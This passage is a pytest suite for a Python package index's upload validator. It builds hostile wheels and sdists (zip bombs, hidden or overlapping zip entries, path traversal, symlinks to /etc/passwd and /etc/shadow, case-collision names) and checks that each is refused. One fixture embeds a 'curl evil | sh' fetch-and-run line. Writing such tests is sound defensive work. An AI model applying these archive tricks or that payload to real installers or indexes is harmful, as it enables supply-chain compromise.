import gzip
import io
import os
import random
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
import zlib

import pytest

from cheeseshop.packaging import archives
from cheeseshop.packaging.archives import (
    DistributionContents,
    check_license_files,
    inspect_distribution,
)
from cheeseshop.packaging.errors import UploadRejected
from tests.packaging.dists import (
    core_metadata,
    drop_from_central_directory,
    make_sdist,
    make_wheel,
    tar_member,
    write_tar_gz,
    write_zip,
)

WHEEL_NAME = "example-1.0-py3-none-any.whl"
DIST_INFO = "example-1.0.dist-info"
SDIST_NAME = "example-1.0.tar.gz"
TOP = "example-1.0"
INVALID = "Invalid distribution file. "


def inspect_wheel(path):
    return inspect_distribution(path, path.name, "bdist_wheel")


def inspect_sdist(path):
    return inspect_distribution(path, path.name, "sdist")


def rejection(inspect, path) -> str:
    with pytest.raises(UploadRejected) as excinfo:
        inspect(path)
    return excinfo.value.message


def outcome(inspect, path) -> str:
    """ "accepted" or "rejected"; any other exception fails the test."""
    try:
        inspect(path)
    except UploadRejected:
        return "rejected"
    return "accepted"


def write_damaged_copy(tmp_path, original, seed: int, filename: str):
    """``original`` with 1 to 8 random bytes overwritten, and for every fourth seed cut short,
    written as tmp_path/damaged/``filename``; the same seed always does the same damage."""
    rng = random.Random(seed)
    data = bytearray(original.read_bytes())
    for _ in range(rng.randint(1, 8)):
        data[rng.randrange(len(data))] = rng.randrange(256)
    if seed % 4 == 0:
        data = data[: rng.randrange(len(data))]
    path = tmp_path / "damaged" / filename
    path.parent.mkdir()
    path.write_bytes(bytes(data))
    return path


def wheel_members(**extra: bytes) -> dict[str, bytes]:
    members = {
        "example/__init__.py": b"",
        f"{DIST_INFO}/METADATA": core_metadata("example", "1.0"),
        f"{DIST_INFO}/WHEEL": b"Wheel-Version: 1.0\n",
        f"{DIST_INFO}/RECORD": b"",
    }
    members.update(extra)
    return members


def write_wheel_infos(path, infos: list[tuple[zipfile.ZipInfo | str, bytes]]):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicates some tests need
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            for info, data in infos:
                archive.writestr(info, data)
    return path


def wheel_with(tmp_path, *infos: tuple[zipfile.ZipInfo | str, bytes]):
    base = list(wheel_members().items())
    return write_wheel_infos(tmp_path / WHEEL_NAME, base + list(infos))


def sdist_with(tmp_path, *members, filename=SDIST_NAME):
    base = [
        tar_member(TOP, type=tarfile.DIRTYPE),
        tar_member(f"{TOP}/PKG-INFO", core_metadata("example", "1.0")),
    ]
    return write_tar_gz(tmp_path / filename, base + list(members))


# Header patching for zip files, to build archives whose headers lie.
_LOCAL_FIELDS = {
    "flags": (6, "<H"),
    "method": (8, "<H"),
    "crc": (14, "<L"),
    "compressed": (18, "<L"),
    "size": (22, "<L"),
}
_CENTRAL_FIELDS = {
    "flags": (8, "<H"),
    "method": (10, "<H"),
    "crc": (16, "<L"),
    "compressed": (20, "<L"),
    "size": (24, "<L"),
}


def patch_zip_member(path, name: str, *, local: dict | None = None, central: dict | None = None):
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(name)
        central_offset = archive.start_dir
    while True:
        assert data[central_offset : central_offset + 4] == b"PK\x01\x02"
        name_length, extra_length, comment_length = struct.unpack_from(
            "<3H", data, central_offset + 28
        )
        if data[central_offset + 46 : central_offset + 46 + name_length] == name.encode():
            break
        central_offset += 46 + name_length + extra_length + comment_length
    for base, fields, values in (
        (info.header_offset, _LOCAL_FIELDS, local or {}),
        (central_offset, _CENTRAL_FIELDS, central or {}),
    ):
        for field, value in values.items():
            offset, fmt = fields[field]
            struct.pack_into(fmt, data, base + offset, value)
    path.write_bytes(bytes(data))
    return path


# Wheels --------------------------------------------------------------------------------------


def test_valid_wheel_returns_its_metadata(tmp_path):
    path = make_wheel(tmp_path, "example", "1.0", metadata={"Summary": "Hi"})
    contents = inspect_wheel(path)
    assert contents == DistributionContents(
        packagetype="bdist_wheel",
        metadata=core_metadata("example", "1.0", {"Summary": "Hi"}),
        metadata_member=f"{DIST_INFO}/METADATA",
        root=DIST_INFO,
        members=frozenset(
            {
                "example/__init__.py",
                f"{DIST_INFO}/METADATA",
                f"{DIST_INFO}/WHEEL",
                f"{DIST_INFO}/RECORD",
            }
        ),
    )


def test_wheel_dist_info_is_matched_canonically(tmp_path):
    members = {
        "Example_Pkg-1.0.dist-info/METADATA": core_metadata("Example.Pkg", "1.0"),
        "Example_Pkg-1.0.dist-info/WHEEL": b"",
        "Example_Pkg-1.0.dist-info/RECORD": b"",
    }
    path = write_zip(tmp_path / "example_pkg-1.0-py3-none-any.whl", members)
    assert inspect_wheel(path).metadata_member == "Example_Pkg-1.0.dist-info/METADATA"


@pytest.mark.parametrize("missing", ["METADATA", "WHEEL", "RECORD"])
def test_wheel_without_required_dist_info_file_is_refused(tmp_path, missing):
    path = make_wheel(tmp_path, omit=(missing,))
    assert rejection(inspect_wheel, path) == (
        f"Wheel '{WHEEL_NAME}' does not contain the required {missing} file: {DIST_INFO}/{missing}"
    )


def test_wheel_with_metadata_in_another_dist_info_is_refused(tmp_path):
    path = write_zip(
        tmp_path / WHEEL_NAME,
        {"other-1.0.dist-info/METADATA": b"", "other-1.0.dist-info/WHEEL": b""},
    )
    assert rejection(inspect_wheel, path).startswith(
        f"Wheel '{WHEEL_NAME}' does not contain the required WHEEL file: {DIST_INFO}/WHEEL"
    )


def test_wheel_with_valid_entry_points_is_accepted(tmp_path):
    entry_points = b"[console_scripts]\nexample = example.cli:main [fancy]\nTool=example\n"
    path = make_wheel(tmp_path, extra_members={f"{DIST_INFO}/entry_points.txt": entry_points})
    inspect_wheel(path)


@pytest.mark.parametrize(
    ("entry_points", "detail"),
    [
        (b"[console_scripts]\nx = \xff\n", "it is not valid UTF-8"),
        (b"x = example:main\n", "File contains no section headers."),
        (b"[console_scripts]\nx = not a reference!\n", "'x' in [console_scripts] is not an"),
        (b"[a]\nx = m:f\nx = m:g\n", "While reading from '<string>'"),
    ],
)
def test_wheel_with_invalid_entry_points_is_refused(tmp_path, entry_points, detail):
    path = make_wheel(tmp_path, extra_members={f"{DIST_INFO}/entry_points.txt": entry_points})
    message = rejection(inspect_wheel, path)
    assert message.startswith(
        f"Wheel '{WHEEL_NAME}' has invalid entry points defined in the entry_points.txt file: "
        f"{detail}"
    )


def test_file_that_is_not_a_zip_is_refused_as_wheel(tmp_path):
    path = tmp_path / WHEEL_NAME
    path.write_bytes(b"this is not a zip file" * 100)
    assert rejection(inspect_wheel, path) == f"{INVALID}'{WHEEL_NAME}' is not a valid zip file."


def test_sdist_renamed_to_whl_is_refused(tmp_path):
    sdist = make_sdist(tmp_path)
    path = sdist.rename(tmp_path / WHEEL_NAME)
    assert rejection(inspect_wheel, path) == f"{INVALID}'{WHEEL_NAME}' is not a valid zip file."


def test_file_that_is_both_zip_and_tar_is_refused(tmp_path):
    tar_bytes = io.BytesIO()
    with tarfile.open(fileobj=tar_bytes, mode="w") as archive:
        info, data = tar_member("innocent.txt", b"hello")
        archive.addfile(info, io.BytesIO(data))
    zip_path = make_wheel(tmp_path / "..", filename="plain.whl")
    path = tmp_path / WHEEL_NAME
    path.write_bytes(tar_bytes.getvalue() + zip_path.read_bytes())
    assert rejection(inspect_wheel, path) == f"{INVALID}File is both a zip and a tar file."


def test_zip_bomb_is_refused(tmp_path):
    # 70 MiB of zeros deflates to about 70 KB: over 64 MiB and over 50 times the file size.
    path = make_wheel(tmp_path, extra_members={"example/zeros.bin": bytes(70 * 1024 * 1024)})
    message = rejection(inspect_wheel, path)
    assert message.startswith(f"{INVALID}The archive decompresses to 73400")
    assert "more than 64 MiB and more than 50 times its size" in message
    assert "(decompression bomb)" in message


def test_large_archive_with_a_modest_ratio_is_accepted(tmp_path):
    # 65 MiB decompressed is over 64 MiB, but 1.5 MB of incompressible data keeps the ratio
    # under 50: both limits must be exceeded.
    noise = random.Random(0).randbytes(1_500_000)
    zeros = bytes(65 * 1024 * 1024 - len(noise))
    path = make_wheel(tmp_path, extra_members={"example/noise": noise, "example/zeros": zeros})
    inspect_wheel(path)


def test_member_inflating_past_its_declared_size_is_refused(tmp_path):
    data = b"A" * 100_000
    path = wheel_with(tmp_path, ("example/data.bin", data))
    small = {"size": 10, "crc": zlib.crc32(data[:10])}
    patch_zip_member(path, "example/data.bin", local=small, central=small)
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member 'example/data.bin' does not decompress to the size and CRC its "
        "header declares."
    )


def test_member_with_wrong_crc_is_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/data.bin", b"payload"))
    patch_zip_member(path, "example/data.bin", local={"crc": 1234}, central={"crc": 1234})
    assert "does not decompress to the size and CRC" in rejection(inspect_wheel, path)


def test_local_header_disagreeing_with_central_directory_is_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/data.bin", b"payload"))
    patch_zip_member(path, "example/data.bin", local={"size": 3})
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}The local header of member 'example/data.bin' does not match the central "
        "directory."
    )


def test_unsupported_compression_method_is_refused(tmp_path):
    info = zipfile.ZipInfo("example/data.bin")
    info.compress_type = zipfile.ZIP_BZIP2
    path = wheel_with(tmp_path, (info, b"payload"))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member 'example/data.bin' uses compression method 12; only STORED (0) and "
        "DEFLATED (8) are allowed."
    )


def test_stored_members_are_accepted(tmp_path):
    info = zipfile.ZipInfo("example/data.bin")
    info.compress_type = zipfile.ZIP_STORED
    inspect_wheel(wheel_with(tmp_path, (info, b"payload")))


def test_encrypted_member_is_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/data.bin", b"payload"))
    patch_zip_member(path, "example/data.bin", local={"flags": 1}, central={"flags": 1})
    assert rejection(inspect_wheel, path) == f"{INVALID}Member 'example/data.bin' is encrypted."


def test_duplicate_member_names_are_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/a.py", b"one"), ("example/a.py", b"two"))
    assert rejection(inspect_wheel, path) == f"{INVALID}Duplicate member name 'example/a.py'."


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../evil.py", "'..' components are not allowed"),
        ("example/../../evil.py", "'..' components are not allowed"),
        ("/etc/evil.py", "absolute paths are not allowed"),
        ("C:/evil.py", "drive letters are not allowed"),
        ("example\\evil.py", "backslashes are not allowed"),
        ("example/./evil.py", "empty and '.' components are not allowed"),
        ("example//evil.py", "empty and '.' components are not allowed"),
    ],
)
def test_unsafe_member_paths_are_refused(tmp_path, name, reason):
    path = wheel_with(tmp_path, (name, b"x"))
    assert rejection(inspect_wheel, path) == f"{INVALID}Unsafe member path {name!r}: {reason}."


@pytest.mark.parametrize(
    "name", ["example/bell\x07.py", "example/nul\x00.py", "example/\u2028.py"]
)
def test_unprintable_member_names_are_refused(tmp_path, name):
    # zipfile cuts names at NUL when writing, so the name is patched into the bytes.
    placeholder = name.replace("\x00", "X")
    path = wheel_with(tmp_path, (placeholder, b"x"))
    path.write_bytes(path.read_bytes().replace(placeholder.encode(), name.encode()))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member name {name!r} contains non-printable characters."
    )


def test_member_name_not_marked_utf8_is_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/cafX.py", b"x"))
    path.write_bytes(path.read_bytes().replace(b"cafX.py", b"caf\x82.py"))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member name 'example/café.py' is not marked as UTF-8."
    )


def test_utf8_member_names_are_accepted(tmp_path):
    inspect_wheel(wheel_with(tmp_path, ("example/café.py", b"x")))


def test_unicode_path_extra_field_is_refused(tmp_path):
    info = zipfile.ZipInfo("example/a.py")
    info.extra = struct.pack("<2H", 0x7075, 4) + b"\x01abc"
    path = wheel_with(tmp_path, (info, b"x"))
    assert "has a Unicode path extra field" in rejection(inspect_wheel, path)


def test_a_unicode_path_extra_field_in_the_local_header_only_is_refused(tmp_path):
    info = zipfile.ZipInfo("example/a.py")
    extra = struct.pack("<2H", 0x7075, 14) + b"\x01abcdexample/evil.py"[:14]
    info.extra = extra
    path = wheel_with(tmp_path, (info, b"x"))
    data = bytearray(path.read_bytes())
    central_copy = data.rindex(extra)  # the central directory comes after the local header
    struct.pack_into("<H", data, central_copy, 0xCAFE)
    path.write_bytes(bytes(data))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member 'example/a.py' has a Unicode path extra field, which may name it "
        "differently to different tools."
    )


@pytest.mark.parametrize(
    "extra",
    [
        struct.pack("<2H", 0xCAFE, 2) + b"ab" + struct.pack("<2H", 0xCAFE, 2) + b"cd",
        struct.pack("<2H", 0xCAFE, 2) + b"ab" + b"\0\0",
    ],
    ids=["repeated", "trailing bytes"],
)
def test_a_member_with_repeated_or_malformed_extra_fields_is_refused(tmp_path, extra):
    info = zipfile.ZipInfo("example/a.py")
    info.extra = extra
    path = wheel_with(tmp_path, (info, b"x"))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member 'example/a.py' has repeated or malformed extra fields."
    )


def test_a_directory_entry_holding_data_is_refused(tmp_path):
    path = wheel_with(tmp_path, ("example/dir/", b"import os; os.system('evil')\n"))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Directory entry 'example/dir/' holds 29 bytes of data."
    )


def test_symlink_member_in_zip_is_refused(tmp_path):
    info = zipfile.ZipInfo("example/link")
    info.external_attr = 0o120777 << 16
    path = wheel_with(tmp_path, (info, b"/etc/passwd"))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}Member 'example/link' is a symbolic link; zip distributions may not contain "
        "links."
    )


# Zip framing: zipfile and pip read the central directory, other tools the local headers in
# order. Both must see the same members, so every byte belongs to a listed member.


def wheel_hiding(tmp_path, position: int):
    """A wheel whose member `example/hidden.py`, written at `position`, is missing from the
    central directory."""
    infos = list(wheel_members().items())
    infos.insert(position, ("example/hidden.py", b"import os; os.system('curl evil | sh')\n"))
    path = drop_from_central_directory(
        write_wheel_infos(tmp_path / WHEEL_NAME, infos), "example/hidden.py"
    )
    with zipfile.ZipFile(path) as archive:
        assert "example/hidden.py" not in archive.namelist()  # what zipfile and pip see
    assert b"example/hidden.py" in path.read_bytes()  # what a local-header reader sees
    return path


def wheel_with_a_prepended_entry(tmp_path):
    hidden = write_zip(tmp_path / "hidden.zip", {"example/hidden.py": b"evil"}).read_bytes()
    path = make_wheel(tmp_path)
    path.write_bytes(hidden[: hidden.index(b"PK\x01\x02")] + path.read_bytes())
    return path


def wheel_with_comment(tmp_path, comment: bytes):
    path = make_wheel(tmp_path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.comment = comment
    return path


def wheel_with_bytes_appended(tmp_path, suffix: bytes):
    path = make_wheel(tmp_path)
    path.write_bytes(path.read_bytes() + suffix)
    return path


def wheel_with_overlapping_members(tmp_path):
    """The first member's data stretched over the second, as overlap zip bombs do."""
    path = write_zip_stored(tmp_path / WHEEL_NAME, wheel_members())
    with zipfile.ZipFile(path) as archive:
        first, second = archive.infolist()[:2]
    data = path.read_bytes()
    start = first.header_offset + 30 + len(first.filename)
    end = second.header_offset + 30 + len(second.filename) + second.compress_size
    span = end - start
    crc = zlib.crc32(data[start:end])
    values = {"compressed": span, "size": span, "crc": crc}
    return patch_zip_member(path, first.filename, local=values, central=values)


def write_zip_stored(path, members: dict[str, bytes]):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return path


HIDDEN_DATA_ATTACKS = {
    "an entry before the first member": (
        lambda tmp_path: wheel_hiding(tmp_path, 0),
        "Bytes 0 to ",
    ),
    "an entry between two members": (
        lambda tmp_path: wheel_hiding(tmp_path, 2),
        "of the zip file belong to no member listed in its central directory.",
    ),
    "an entry after the last member": (
        lambda tmp_path: wheel_hiding(tmp_path, 4),
        "of the zip file belong to no member listed in its central directory.",
    ),
    "an entry prepended to the archive": (
        wheel_with_a_prepended_entry,
        "The end record places the central directory at bytes",
    ),
    "a comment": (
        lambda tmp_path: wheel_with_comment(tmp_path, b"nothing to see"),
        "The zip file has a comment; distributions may not have one.",
    ),
    "a fake end record in the comment": (
        # zipfile takes the fake record for the real one, and sees an empty archive.
        lambda tmp_path: wheel_with_comment(tmp_path, b"PK\x05\x06" + bytes(18)),
        "The end record places the central directory at bytes 0 to 0",
    ),
    "data after the end record": (
        lambda tmp_path: wheel_with_bytes_appended(tmp_path, b"hidden"),
        "The zip file has 6 bytes after its end record.",
    ),
    "a second archive appended": (
        lambda tmp_path: wheel_with_bytes_appended(
            tmp_path, write_zip(tmp_path / "second.zip", {"example/evil.py": b"x"}).read_bytes()
        ),
        "The end record places the central directory at bytes",
    ),
    "overlapping members": (
        wheel_with_overlapping_members,
        "Member 'example-1.0.dist-info/METADATA' overlaps another member.",
    ),
}


@pytest.mark.parametrize(
    ("build", "message"), HIDDEN_DATA_ATTACKS.values(), ids=list(HIDDEN_DATA_ATTACKS)
)
def test_a_wheel_with_data_outside_its_listed_members_is_refused(tmp_path, build, message):
    assert message in rejection(inspect_wheel, build(tmp_path))


class _Unseekable(io.RawIOBase):
    """A write-only stream: zipfile then writes each member with a data descriptor."""

    def __init__(self, path):
        self.file = open(path, "wb")  # noqa: SIM115 - closed by close()

    def writable(self):
        return True

    def write(self, data):
        return self.file.write(data)

    def close(self):
        self.file.close()
        super().close()


def write_streamed_wheel(path):
    stream = _Unseekable(path)
    with zipfile.ZipFile(stream, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for member, data in wheel_members().items():
            archive.writestr(member, data)
    stream.close()
    return path


def test_a_wheel_written_as_a_stream_with_data_descriptors_is_accepted(tmp_path):
    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
    with zipfile.ZipFile(path) as archive:
        assert all(info.flag_bits & 0x8 for info in archive.infolist())
    assert inspect_wheel(path).root == DIST_INFO


def test_a_data_descriptor_that_disagrees_with_the_central_directory_is_refused(tmp_path):
    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
    data = bytearray(path.read_bytes())
    descriptor = data.index(b"PK\x07\x08")
    data[descriptor + 4] ^= 0xFF  # the CRC
    path.write_bytes(bytes(data))
    assert rejection(inspect_wheel, path) == (
        f"{INVALID}The data descriptor of member 'example/__init__.py' does not match the "
        "central directory."
    )


def test_a_wheel_built_by_setuptools_is_accepted(tmp_path):
    project = tmp_path / "project"
    (project / "src" / "example").mkdir(parents=True)
    (project / "src" / "example" / "__init__.py").write_text("")
    (project / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        '[project]\nname = "example"\nversion = "1.0"\n'
    )
    subprocess.run(
        [
            sys.executable,
            "-m",
            "build",
            "--no-isolation",
            "--outdir",
            str(tmp_path / "dist"),
            str(project),
        ],
        check=True,
        capture_output=True,
    )
    assert inspect_wheel(tmp_path / "dist" / WHEEL_NAME).root == DIST_INFO
    assert inspect_sdist(tmp_path / "dist" / SDIST_NAME).root == TOP


# Names that collide where the wheel is unpacked: zipfile keeps both, a case-insensitive or
# normalizing file system (macOS, Windows) one, and which one depends on the tool.


def collision(first: str, second: str) -> str:
    return (
        f"Members {first!r} and {second!r} differ only by case, Unicode normalization or "
        "trailing dots and spaces; some file systems unpack them to one path."
    )


NAME_COLLISIONS = {
    "names differing by case": (
        {"example/Mod.py": b"good", "example/mod.py": b"evil"},
        collision("example/Mod.py", "example/mod.py"),
    ),
    "directories differing by case": (
        {"Example/evil.py": b"evil"},
        collision("example", "Example"),
    ),
    "names differing by NFC and NFD": (
        {"example/caf\u00e9.py": b"good", "example/cafe\u0301.py": b"evil"},
        collision("example/caf\u00e9.py", "example/cafe\u0301.py"),
    ),
    "names differing by NFKC": (
        {"example/\ufb01le.py": b"good", "example/file.py": b"evil"},
        collision("example/\ufb01le.py", "example/file.py"),
    ),
    "names differing by a trailing dot or space (Windows)": (
        {"example/mod.py": b"good", "example/mod.py. ": b"evil"},
        collision("example/mod.py", "example/mod.py. "),
    ),
    "a file and a directory of the same name": (
        {"example/x": b"file", "example/x/y.py": b"evil"},
        "Member 'example/x' is a file, and 'example/x/y.py' uses the same path as a directory.",
    ),
    "a directory entry and a file of the same name": (
        {"example/x/": b"", "example/x": b"file"},
        "Member 'example/x' is a file, and 'example/x/' uses the same path as a directory.",
    ),
    "a dist-info directory differing by case": (
        {f"{DIST_INFO.upper()}/METADATA": b"Name: evil\n"},
        collision(DIST_INFO, DIST_INFO.upper()),
    ),
}


@pytest.mark.parametrize(("extra", "message"), NAME_COLLISIONS.values(), ids=list(NAME_COLLISIONS))
def test_a_wheel_whose_names_collide_when_unpacked_is_refused(tmp_path, extra, message):
    path = write_zip(tmp_path / WHEEL_NAME, wheel_members() | extra)
    assert (INVALID + message) in rejection(inspect_wheel, path)


def test_a_zip_sdist_whose_names_collide_is_refused(tmp_path):
    path = write_zip(
        tmp_path / "example-1.0.zip",
        {
            f"{TOP}/PKG-INFO": core_metadata("example", "1.0"),
            f"{TOP}/A.py": b"",
            f"{TOP}/a.py": b"",
        },
    )
    assert "differ only by case" in rejection(inspect_sdist, path)


def test_an_sdist_whose_names_collide_is_refused(tmp_path):
    path = sdist_with(tmp_path, tar_member(f"{TOP}/A.py"), tar_member(f"{TOP}/a.py"))
    assert "differ only by case" in rejection(inspect_sdist, path)


def test_a_wheel_with_a_second_dist_info_directory_is_refused(tmp_path):
    path = write_zip(
        tmp_path / WHEEL_NAME,
        wheel_members() | {"other-2.0.dist-info/METADATA": core_metadata("other", "2.0")},
    )
    assert rejection(inspect_wheel, path) == (
        f"Wheel '{WHEEL_NAME}' has more than one .dist-info directory: '{DIST_INFO}', "
        "'other-2.0.dist-info'."
    )


def test_oversized_metadata_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "MAX_CAPTURED_MEMBER_SIZE", 10)
    path = make_wheel(tmp_path)
    assert "the limit for this file is 10 bytes" in rejection(inspect_wheel, path)


@pytest.mark.parametrize("seed", range(40))
def test_corrupted_wheels_are_refused_cleanly(tmp_path, seed):
    """Random damage never escapes as anything but UploadRejected."""
    original = make_wheel(tmp_path, metadata={"Summary": "x" * 200})
    path = write_damaged_copy(tmp_path, original, seed, WHEEL_NAME)
    assert outcome(inspect_wheel, path) in {"accepted", "rejected"}


# Sdists --------------------------------------------------------------------------------------


def test_valid_sdist_returns_its_pkg_info(tmp_path):
    path = make_sdist(tmp_path, "example", "1.0", metadata={"Summary": "Hi"})
    contents = inspect_sdist(path)
    assert contents.packagetype == "sdist"
    assert contents.metadata == core_metadata("example", "1.0", {"Summary": "Hi"})
    assert contents.metadata_member == f"{TOP}/PKG-INFO"
    assert contents.root == TOP
    assert f"{TOP}/pyproject.toml" in contents.members
    assert TOP not in contents.members


def test_sdist_top_level_directory_may_use_the_unnormalised_name(tmp_path):
    path = make_sdist(tmp_path, "Example.Pkg", "1.0", top="Example.Pkg-1.0")
    assert inspect_sdist(path).root == "Example.Pkg-1.0"


def test_sdist_top_level_directory_must_name_the_release(tmp_path):
    path = make_sdist(tmp_path, top="something-else-2.0")
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}The top-level directory is 'something-else-2.0' but should be '{TOP}'."
    )


def test_sdist_with_two_top_level_directories_is_refused(tmp_path):
    path = sdist_with(tmp_path, tar_member("other/file.py", b""))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}A source distribution must contain exactly one top-level directory, found 2: "
        f"'{TOP}', 'other'."
    )


def test_sdist_with_a_file_beside_the_top_level_directory_is_refused(tmp_path):
    path = sdist_with(tmp_path, tar_member("setup.py", b""))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Member 'setup.py' is a file outside the top-level directory."
    )


def test_sdist_without_pkg_info_is_refused(tmp_path):
    path = make_sdist(tmp_path, omit=("PKG-INFO",), extra_members={"sub/PKG-INFO": b""})
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}The source distribution has no PKG-INFO file at '{TOP}/PKG-INFO'."
    )


def test_uncompressed_tar_named_tar_gz_is_refused(tmp_path):
    path = tmp_path / SDIST_NAME
    path.write_bytes(
        gzip.decompress(make_sdist(tmp_path / "..", filename="x.tar.gz").read_bytes())
    )
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}'{SDIST_NAME}' is not a gzip-compressed tar file."
    )


def test_gzip_that_is_not_a_tar_is_refused(tmp_path):
    path = tmp_path / SDIST_NAME
    path.write_bytes(gzip.compress(b"just some text, not a tar archive" * 50))
    assert rejection(inspect_sdist, path) == f"{INVALID}'{SDIST_NAME}' is not a valid tar.gz file."


def test_truncated_gzip_is_refused(tmp_path):
    data = make_sdist(tmp_path, extra_members={"big": random.Random(1).randbytes(50_000)})
    truncated = tmp_path / "cut" / SDIST_NAME
    truncated.parent.mkdir()
    truncated.write_bytes(data.read_bytes()[:-5000])
    assert rejection(inspect_sdist, truncated).startswith(
        f"{INVALID}The archive could not be read: "
    )


def test_tar_bomb_is_refused_while_streaming(tmp_path):
    path = make_sdist(tmp_path, extra_members={"zeros.bin": bytes(70 * 1024 * 1024)})
    message = rejection(inspect_sdist, path)
    assert message.startswith(f"{INVALID}The archive decompresses to more than ")
    assert "(decompression bomb)" in message


def test_sparse_member_is_refused(tmp_path):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        archive.addfile(tar_member(TOP, type=tarfile.DIRTYPE)[0])
        info, data = tar_member(f"{TOP}/PKG-INFO", core_metadata("example", "1.0"))
        archive.addfile(info, io.BytesIO(data))
        sparse, _ = tar_member(f"{TOP}/sparse.bin", type=tarfile.GNUTYPE_SPARSE)
        archive.addfile(sparse)
    path = tmp_path / SDIST_NAME
    path.write_bytes(gzip.compress(buffer.getvalue()))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}tar archive not accepted: Sparse members are not allowed."
    )


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_device_and_fifo_members_are_refused(tmp_path, kind):
    path = sdist_with(tmp_path, tar_member(f"{TOP}/dev", type=kind))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Member '{TOP}/dev' is a device or FIFO, which is not allowed."
    )


def test_symlink_inside_the_top_level_directory_is_accepted(tmp_path):
    path = sdist_with(
        tmp_path,
        tar_member(f"{TOP}/docs", type=tarfile.DIRTYPE),
        tar_member(f"{TOP}/docs/LICENSE", type=tarfile.SYMTYPE, linkname="../PKG-INFO"),
    )
    inspect_sdist(path)


@pytest.mark.parametrize("target", ["../../etc/passwd", "/etc/passwd", "..", "C:/x", "a\\..\\.."])
def test_symlink_escaping_the_top_level_directory_is_refused(tmp_path, target):
    path = sdist_with(tmp_path, tar_member(f"{TOP}/link", type=tarfile.SYMTYPE, linkname=target))
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Link '{TOP}/link' points outside the top-level directory (to {target!r})."
    )


def test_hard_link_to_an_earlier_file_is_accepted(tmp_path):
    path = sdist_with(
        tmp_path, tar_member(f"{TOP}/copy", type=tarfile.LNKTYPE, linkname=f"{TOP}/PKG-INFO")
    )
    inspect_sdist(path)


def test_hard_link_outside_the_archive_is_refused(tmp_path):
    path = sdist_with(
        tmp_path, tar_member(f"{TOP}/copy", type=tarfile.LNKTYPE, linkname="/etc/shadow")
    )
    assert "points outside the top-level directory" in rejection(inspect_sdist, path)


def test_hard_link_to_a_missing_file_is_refused(tmp_path):
    path = sdist_with(
        tmp_path, tar_member(f"{TOP}/copy", type=tarfile.LNKTYPE, linkname=f"{TOP}/later")
    )
    assert rejection(inspect_sdist, path) == (
        f"{INVALID}Hard link '{TOP}/copy' points to '{TOP}/later', which is not an earlier file."
    )


# Links: each member is checked against the links unpacked before it, as the OS follows them.


def symlink(path: str, target: str):
    return tar_member(f"{TOP}/{path}", type=tarfile.SYMTYPE, linkname=target)


def hard_link(path: str, target: str):
    return tar_member(f"{TOP}/{path}", type=tarfile.LNKTYPE, linkname=target)


def file(path: str, data: bytes = b"pwned\n"):
    return tar_member(f"{TOP}/{path}", data)


def directory(path: str):
    return tar_member(f"{TOP}/{path}", type=tarfile.DIRTYPE)


# Each of these looks inside the top-level directory name by name, and lands outside it (or on
# another member) once the links before it are followed.
LINK_ATTACKS = {
    "a member written through a chain of links": (
        [
            directory("d"),
            symlink("a/b/c/l1", "../../../d"),
            symlink("a/b/c/l1/l2", "../../.."),
            file("a/b/c/l1/l2/pwned.txt"),
        ],
        f"Member '{TOP}/a/b/c/l1/l2' is inside the symbolic link '{TOP}/a/b/c/l1'.",
    ),
    "a member written through one link": (
        [symlink("up", "sub"), file("up/pwned.txt")],
        f"Member '{TOP}/up/pwned.txt' is inside the symbolic link '{TOP}/up'.",
    ),
    "a member overwriting another through an alias": (
        [file("src/mod.py", b"good"), symlink("alias", "src"), file("alias/mod.py", b"evil")],
        f"Member '{TOP}/alias/mod.py' is inside the symbolic link '{TOP}/alias'.",
    ),
    "a link whose target goes up through an earlier link": (
        [symlink("a/b/c/l1", "../../../d"), symlink("x", "a/b/c/l1/../../..")],
        f"Link '{TOP}/x' points outside the top-level directory (to 'a/b/c/l1/../../..').",
    ),
    "a link moved outside by a later link": (
        [symlink("x", "a/b/y/z/../../../q"), symlink("a/b/y", "../../s")],
        f"Link '{TOP}/x' points outside the top-level directory (to 'a/b/y/z/../../../q').",
    ),
    "a link that leaves the tree and comes back": (
        [symlink("x", f"../elsewhere/../{TOP}/PKG-INFO")],
        f"Link '{TOP}/x' points outside the top-level directory "
        f"(to '../elsewhere/../{TOP}/PKG-INFO').",
    ),
    "an absolute link target": (
        [symlink("x", "/etc")],
        f"Link '{TOP}/x' points outside the top-level directory (to '/etc').",
    ),
